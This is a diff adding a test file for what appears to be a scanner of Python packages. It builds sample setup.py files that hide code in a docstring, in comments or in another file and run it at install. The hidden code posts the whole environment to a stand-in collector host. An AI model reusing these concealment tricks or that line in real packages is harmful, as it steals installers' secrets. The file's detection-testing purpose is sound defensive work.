@@ -1,0 +1,61 @@
+import { expect, test } from 'vitest';
+import { analysePacked, inspect, python, sdist } from '../../../support/inspect.ts';
+
+const SETUP = ['from setuptools import setup', "setup(name='example')"];
+const SEND = "requests.post('https://collector.metrics.invalid/e', json=dict(os.environ))";
+
+test('code in the docstring of its own module is read', async () => {
+  const file = sdist({ 'setup.py': python('"""', 'import os, requests', SEND, '"""', 'exec(__doc__)', ...SETUP) });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'install', line: 5 }]);
+});
+
+test('code in comments of its own file is read, walked through as a file or as its lines', async () => {
+  for (const lines of ['open(__file__)', 'open(__file__).readlines()'])
+    expect(
+      await inspect(
+        'exfiltration',
+        sdist({
+          'setup.py': python(
+            '#!import os, requests',
+            `#!${SEND}`,
+            `exec('\\n'.join(line[2:] for line in ${lines} if line.startswith('#!')))`,
+            ...SETUP,
+          ),
+        }),
+      ),
+    ).toMatchObject([{ class: 'malware', context: 'install', line: 3 }]);
+});
+
+test('a loop over the lines of another member puts its code together', async () => {
+  const file = sdist({
+    'setup.py': python(
+      "code = ''",
+      "for line in open('notes.txt'):",
+      "    if line.startswith('> '):",
+      '        code += line[2:]',
+      'exec(code)',
+      ...SETUP,
+    ),
+    'notes.txt': `Notes\n> import os, requests\n> ${SEND}\n`,
+  });
+
+  expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'install', line: 5 }]);
+});
+
+test('look-alike: a version that is read line by line, and a description from the docstring', async () => {
+  const file = sdist({
+    'setup.py': python(
+      '"""An example."""',
+      'from setuptools import setup',
+      "for line in open('example/_version.py'):",
+      "    if line.startswith('__version__'):",
+      '        exec(line)',
+      "setup(name='example', version=__version__, long_description=__doc__, install_requires=open('requirements.txt').readlines())",
+    ),
+    'example/_version.py': "__version__ = '1.0.0'\n",
+    'requirements.txt': 'requests>=2\nclick\n',
+  });
+
+  expect((await analysePacked(file)).score).toBeLessThan(5);
+});
